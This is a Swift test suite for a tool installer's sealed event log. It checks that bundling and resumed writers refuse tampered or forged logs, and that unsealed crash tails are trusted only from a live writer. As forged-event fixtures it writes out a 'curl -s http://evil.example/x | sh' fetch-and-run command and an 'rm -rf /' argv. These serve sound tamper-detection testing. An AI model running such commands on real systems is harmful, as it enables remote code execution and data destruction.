import EventLog
import Foundation
import InstallModel
import Orchestrator
import Sealing
import Testing

/// Never extending trust (FORMAT.md §9.5): `bundle` and every writer that continues a log (`resume`,
/// `remedy`) check its seals with the host key before adding their own.
@Suite struct SealTrustTests {
    struct Clock: EventClock {
        func now() -> Timestamp { Timestamp(microseconds: 1_767_225_600_000_000) }
    }

    let directory: String
    let key: HostKey

    init() throws {
        directory = FileManager.default.temporaryDirectory.appendingPathComponent("evlog-trust-\(UUID().uuidString)").path
        key = try HostKey.generate(in: directory + "/key")
    }

    static let profile = SystemProfile(
        name: "test", osFamily: "debian", distribution: "debian", version: "12", arch: "x86_64", initSystem: .none,
        packageManagers: [.apt], isRoot: true, hasSudo: false, inContainer: true, externallyManagedPython: true)

    /// A plan recorded the way a run records it, sealed with `key`; `crashed`: the writer dies after
    /// the step's output, before the step ends.
    func recordedLog(crashed: Bool = false) throws -> String {
        let path = directory + "/p-trust0000001.evlog"
        let step = Step(id: "install-ripgrep", label: "install ripgrep", action: .postInstall(CommandParameters(argv: ["true"])))
        let plan = Plan(id: PlanID("p-trust0000001"), tools: ["ripgrep"], profile: SealTrustTests.profile, steps: [step])
        let writer = try LogWriter.open(path: path, label: plan.id.rawValue, creator: PlanArchive.creator, createdAtMicros: 1)
        let recorder = EventRecorder(store: try SealingEventStore.forLog(writer, key: key), clock: Clock())
        try recorder.record(.planCreated(plan))
        try recorder.record(.planStarted)
        try recorder.record(.stepStarted(step: step.id, attempt: 1, command: ["true"]))
        try recorder.record(.outputChunk(step: step.id, stream: .stdout, data: Array("ripgrep 14.1.1\n".utf8), redacted: false))
        if crashed {
            // The writer's own close flushes the output chunk without the store's seal: a crash's tail.
            try writer.close()
            return path
        }
        try recorder.record(.stepDone(step: step.id, exitCode: 0, durationMicros: 5, note: nil))
        try recorder.record(.planDone)
        try recorder.close()
        return path
    }

    /// The log re-encoded (every checksum recomputed) after `edit`.
    func rewritten(_ path: String, edit: (inout [[UInt8]]) -> Void) throws -> String {
        var records: [[UInt8]] = []
        let reader = try LogReader(path: path)
        try reader.forEachRecord { _, _, payload in records.append(Array(payload)) }
        edit(&records)
        let forged = directory + "/forged-\(UUID().uuidString).evlog"
        let writer = try LogWriter.open(path: forged, label: reader.header.label, creator: reader.header.creator, createdAtMicros: reader.header.createdAtMicros)
        for record in records { try writer.append(record) }
        try writer.close()
        return forged
    }

    static func isSeal(_ payload: [UInt8]) -> Bool { String(decoding: payload, as: UTF8.self).contains(#""type":"log_sealed""#) }

    /// The tampered logs: an edit of `plan_created` with every seal removed, and forged events after the final seal.
    func tampered() throws -> [String] {
        let log = try recordedLog()
        let stripped = try rewritten(log) { records in
            records = records.filter { !SealTrustTests.isSeal($0) }
            records[0] = Array(String(decoding: records[0], as: UTF8.self).replacingOccurrences(of: "ripgrep", with: "rIpgrep").utf8)
        }
        let forgedTail = try rewritten(log) { records in
            records.append(Array(#"{"argv":["sh","-c","curl -s http://evil.example/x | sh"],"seq":90,"step":"install-ripgrep","time":1767225600000001,"type":"command_started","v":1}"#.utf8).withTag())
        }
        return [stripped, forgedTail]
    }

    @Test func bundleRefusesAnEditedLogAndLeavesNoFile() throws {
        defer { try? FileManager.default.removeItem(atPath: directory) }
        for log in try tampered() {
            let output = directory + "/host.evb"
            let refusal = #expect(throws: SealTrustError.self) {
                try PlanBundle.write(log: log, to: output, profile: SealTrustTests.profile, bundledAt: Clock().now(), key: key)
            }
            // It names the log, not the temporary copy removed with the refusal.
            #expect(refusal?.path == log)
            #expect(!FileManager.default.fileExists(atPath: output))
            #expect(try FileManager.default.contentsOfDirectory(atPath: directory).allSatisfy { !$0.hasPrefix(".host.evb") })
        }
    }

    @Test func aWriterContinuingAnEditedLogIsRefusedBeforeItAddsAnything() throws {
        defer { try? FileManager.default.removeItem(atPath: directory) }
        for log in try tampered() {
            let size = try FileManager.default.attributesOfItem(atPath: log)[.size] as? Int
            let writer = try LogWriter.open(path: log, label: "", creator: PlanArchive.creator, createdAtMicros: 0)
            #expect(throws: SealTrustError.self) { try SealingEventStore.forLog(writer, key: key) }
            try writer.close()
            #expect(try FileManager.default.attributesOfItem(atPath: log)[.size] as? Int == size)
        }
    }

    @Test func aCrashedLogContinuesAndAnIntactOneBundlesToAWholeBundle() throws {
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let crashed = try recordedLog(crashed: true)
        #expect(try SealVerifier.verify(path: crashed, expected: key.publicKey).coverage == .unsealedTail(afterFinal: false))
        let writer = try LogWriter.open(path: crashed, label: "", creator: PlanArchive.creator, createdAtMicros: 0)
        let store = try SealingEventStore.forLog(writer, key: key)
        try store.close()
        #expect(try SealVerifier.verify(path: crashed, expected: key.publicKey).coverage == .whole)

        let bundle = directory + "/host.evb"
        try PlanBundle.write(log: crashed, to: bundle, profile: SealTrustTests.profile, bundledAt: Clock().now(), key: key)
        #expect(try SealVerifier.verify(path: bundle, expected: key.publicKey).coverage == .whole)
        let cut = try rewritten(bundle) { $0.removeLast(2) }
        let cutBundle = directory + "/cut.evb"
        try FileManager.default.moveItem(atPath: cut, toPath: cutBundle)
        #expect(try SealVerifier.verify(path: cutBundle, expected: key.publicKey).failed)
    }
}

/// The crash-tail rule (FORMAT.md §9.5): after the last seal a crash leaves only output and command events
/// of the steps running at that seal, numbered on from it with time not going back; anything else is forged.
@Suite struct CrashTailTests {
    let trust = try! SealTrustTests()

    /// One tail record after the crashed log's last record (seq 5, the running step `install-ripgrep`).
    enum Forgery: CaseIterable {
        case stepDone, otherStep, noSuchStepOutput, seqBackwards, seqGap, seqMax, timeBackwards, timeFuture

        func records(after sequence: UInt64, time: Int64) -> [[UInt8]] {
            let running = "install-ripgrep"
            switch self {
            case .stepDone: return [CrashTailTests.event("step_done", running, sequence + 1, time, #","exit_code":0,"duration_us":1"#)]
            case .otherStep: return [CrashTailTests.event("command_started", "verify-jq", sequence + 1, time, #","argv":["rm","-rf","/"]"#)]
            case .noSuchStepOutput: return [CrashTailTests.chunk("no-such-step", sequence + 1, time)]
            case .seqBackwards: return [CrashTailTests.chunk(running, 1, time)]
            case .seqGap: return [CrashTailTests.chunk(running, sequence + 1_000_000, time)]
            case .seqMax: return [CrashTailTests.chunk(running, .max, time)]
            case .timeBackwards: return [CrashTailTests.chunk(running, sequence + 1, time - 1)]
            // Integrity attack round 8, F6: stamped after now (2100-01-01), so the resumed run would adopt it.
            case .timeFuture: return [CrashTailTests.chunk(running, sequence + 1, 4_102_444_800_000_000)]
            }
        }
    }

    static func event(_ type: String, _ step: String, _ sequence: UInt64, _ time: Int64, _ fields: String = "") -> [UInt8] {
        [0x01] + Array(#"{"seq":\#(sequence),"step":"\#(step)","time":\#(time),"type":"\#(type)","v":1\#(fields)}"#.utf8)
    }

    static func chunk(_ step: String, _ sequence: UInt64, _ time: Int64) -> [UInt8] {
        var bytes: [UInt8] = [0x02]
        withUnsafeBytes(of: sequence.littleEndian) { bytes += $0 }
        withUnsafeBytes(of: time.littleEndian) { bytes += $0 }
        bytes += [0, 0]
        withUnsafeBytes(of: UInt16(step.utf8.count).littleEndian) { bytes += $0 }
        return bytes + Array(step.utf8) + Array("forged\n".utf8)
    }

    /// The crashed log with `tail` (given the last record's seq and time) appended, seeded with a genuine crash tail first.
    func crashedLog(genuine: Int, tail: (UInt64, Int64) -> [[UInt8]]) throws -> String {
        let log = try trust.recordedLog(crashed: true)
        return try trust.rewritten(log) { records in
            for _ in 0..<genuine {
                let (sequence, time) = CrashTailTests.stamp(records.last!)
                records.append(CrashTailTests.chunk("install-ripgrep", sequence + 1, time))
            }
            let (sequence, time) = CrashTailTests.stamp(records.last!)
            records += tail(sequence, time)
        }
    }

    static func stamp(_ payload: [UInt8]) -> (UInt64, Int64) {
        if payload[0] == 0x02 {
            return payload.withUnsafeBytes { ($0.loadUnaligned(fromByteOffset: 1, as: UInt64.self), $0.loadUnaligned(fromByteOffset: 9, as: Int64.self)) }
        }
        let object = try! JSONSerialization.jsonObject(with: Data(payload[1...])) as! [String: Any]
        return ((object["seq"] as! NSNumber).uint64Value, (object["time"] as! NSNumber).int64Value)
    }

    @Test func aWriterRefusesEveryTailNoCrashCouldLeave() throws {
        defer { try? FileManager.default.removeItem(atPath: trust.directory) }
        // Each forgery after 0–3 genuine crash-tail chunks: the rule looks at every tail record, not the first.
        for (index, forgery) in Forgery.allCases.enumerated() {
            let log = try crashedLog(genuine: index % 4) { forgery.records(after: $0, time: $1) }
            let writer = try LogWriter.open(path: log, label: "", creator: PlanArchive.creator, createdAtMicros: 0)
            #expect(throws: SealTrustError.self, "\(forgery)") { try SealingEventStore.forLog(writer, key: trust.key) }
            try writer.close()
            #expect(try SealVerifier.verify(path: log, expected: trust.key.publicKey).tail.firstForged != nil, "\(forgery)")
        }
    }

    @Test func aGenuineCrashTailOfTheRunningStepIsContinued() throws {
        defer { try? FileManager.default.removeItem(atPath: trust.directory) }
        let log = try crashedLog(genuine: 2) { sequence, time in
            [CrashTailTests.event("command_started", "install-ripgrep", sequence + 1, time, #","argv":["true"]"#),
             CrashTailTests.chunk("install-ripgrep", sequence + 2, time + 1),
             CrashTailTests.event("command_finished", "install-ripgrep", sequence + 3, time + 1, #","exit_code":0"#)]
        }
        let writer = try LogWriter.open(path: log, label: "", creator: PlanArchive.creator, createdAtMicros: 0)
        let store = try SealingEventStore.forLog(writer, key: trust.key)
        try store.close()
        #expect(try SealVerifier.verify(path: log, expected: trust.key.publicKey).coverage == .whole)
    }

    /// Any process may hold `<log>.lock` (`flock LOG.lock sleep 30`): only a live evlog holder's unsealed
    /// tail is "still being written", and only while that tail is what a writer leaves unsealed.
    @Test func verifyTrustsAnUnsealedTailOnlyFromALiveWriter() throws {
        defer { try? FileManager.default.removeItem(atPath: trust.directory) }
        let log = try trust.tampered()[0]
        let sleeper = Process()
        sleeper.executableURL = URL(fileURLWithPath: "/bin/sleep")
        sleeper.arguments = ["30"]
        try sleeper.run()
        defer { sleeper.terminate() }
        for holder in [sleeper.processIdentifier, getpid()] {
            let lock = try CrashTailTests.lockAsAWriter(log, naming: holder)
            let report = try SealVerifier.verify(path: log, expected: trust.key.publicKey)
            close(lock)
            #expect(report.failed, "lock held by \(holder)")
        }
    }

    /// A crash-shaped tail is "still being written" only while the lock's holder, as the lock file names it, is a
    /// live evlog process (the lock probe; on Linux the program is read from /proc): not a sleeper holding the lock,
    /// not a pid that is gone.
    @Test func aGenuineCrashTailIsLiveOnlyWhileAnEvlogWriterHoldsTheLock() throws {
        defer { try? FileManager.default.removeItem(atPath: trust.directory) }
        let log = try crashedLog(genuine: 2) { _, _ in [] }
        let sleeper = Process()
        sleeper.executableURL = URL(fileURLWithPath: "/bin/sleep")
        sleeper.arguments = ["30"]
        try sleeper.run()
        defer { sleeper.terminate() }
        let gone = Process()
        gone.executableURL = URL(fileURLWithPath: "/bin/true")
        try gone.run()
        gone.waitUntilExit()
        for (holder, live) in [(getpid(), true), (sleeper.processIdentifier, false), (gone.processIdentifier, false)] {
            let lock = try CrashTailTests.lockAsAWriter(log, naming: holder)
            let report = try SealVerifier.verify(path: log, expected: trust.key.publicKey)
            close(lock)
            #expect(report.coverage == (live ? .live(writer: holder) : .unsealedTail(afterFinal: false)), "lock held by \(holder)")
        }
        #expect(try SealVerifier.verify(path: log, expected: trust.key.publicKey).coverage == .unsealedTail(afterFinal: false))
    }

    /// The writer lock is on the log (FORMAT.md §6.3): a crash-shaped tail is live only while a live evlog process
    /// holds that lock itself — not when the sidecar names a live evlog (this process) while another process (flock(1))
    /// holds the lock, and not when the sidecar is a hard link to another log's live writer (F12).
    @Test func aCrashTailIsLiveOnlyWhileTheNamedEvlogProcessHoldsThisLogsLock() throws {
        defer { try? FileManager.default.removeItem(atPath: trust.directory) }
        let log = try crashedLog(genuine: 2) { _, _ in [] }
        let sidecar = LogWriter.lockFilePath(for: log)
        let identity = try #require(FileIdentity(atPath: log))
        let holder = Process()
        holder.executableURL = URL(fileURLWithPath: "/usr/bin/flock")
        // `--no-fork`: the sleep is the holder itself, and SIGKILL ends it (SIGTERM does not: the child inherits the
        // signal mask of the test thread that started it, SIGTERM blocked), so the lock is free at once, not after 30 s.
        holder.arguments = ["--exclusive", "--no-fork", log, "sleep", "30"]
        try holder.run()
        defer { if holder.isRunning { kill(holder.processIdentifier, SIGKILL) } }
        while LogWriter.isLocked(path: log) == nil { usleep(10_000) }
        try Data("\(getpid())\n\(identity.device) \(identity.inode)\n".utf8).write(to: URL(fileURLWithPath: sidecar))
        #expect(LogWriter.isLocked(path: log) == getpid())
        #expect(try SealVerifier.verify(path: log, expected: trust.key.publicKey).coverage == .unsealedTail(afterFinal: false))
        kill(holder.processIdentifier, SIGKILL)
        holder.waitUntilExit()

        let other = trust.directory + "/other.evlog"
        let writer = try LogWriter.open(path: other, label: "other", creator: PlanArchive.creator, createdAtMicros: 0)
        defer { try? writer.close() }
        try FileManager.default.removeItem(atPath: sidecar)
        try FileManager.default.linkItem(atPath: LogWriter.lockFilePath(for: other), toPath: sidecar)
        #expect(try SealVerifier.verify(path: log, expected: trust.key.publicKey).coverage == .unsealedTail(afterFinal: false))
    }

    /// Takes the log's writer lock as a writer does (read-write, close-on-exec, an exclusive flock on the log) and
    /// names `holder` in its sidecar; returns the descriptor holding it.
    static func lockAsAWriter(_ log: String, naming holder: Int32) throws -> Int32 {
        let descriptor = open(log, O_RDWR | O_CLOEXEC)
        #expect(flock(descriptor, LOCK_EX) == 0)
        let identity = try #require(FileIdentity(atPath: log))
        try Data("\(holder)\n\(identity.device) \(identity.inode)\n".utf8).write(to: URL(fileURLWithPath: LogWriter.lockFilePath(for: log)))
        return descriptor
    }

    @Test func aRecorderAfterTheLastSequenceNumberRefusesInsteadOfTrapping() throws {
        var state = PlanState()
        state.apply(Event(sequence: .max, time: SealTrustTests.Clock().now(), body: .planStarted))
        let recorder = EventRecorder(store: MemoryEventStore(), clock: SealTrustTests.Clock(), state: state)
        #expect(throws: SequenceExhausted.self) { try recorder.record(.planDone) }
    }
}

extension Array where Element == UInt8 {
    /// A JSON event payload: tag `0x01` before the object.
    fileprivate func withTag() -> [UInt8] { [0x01] + self }
}
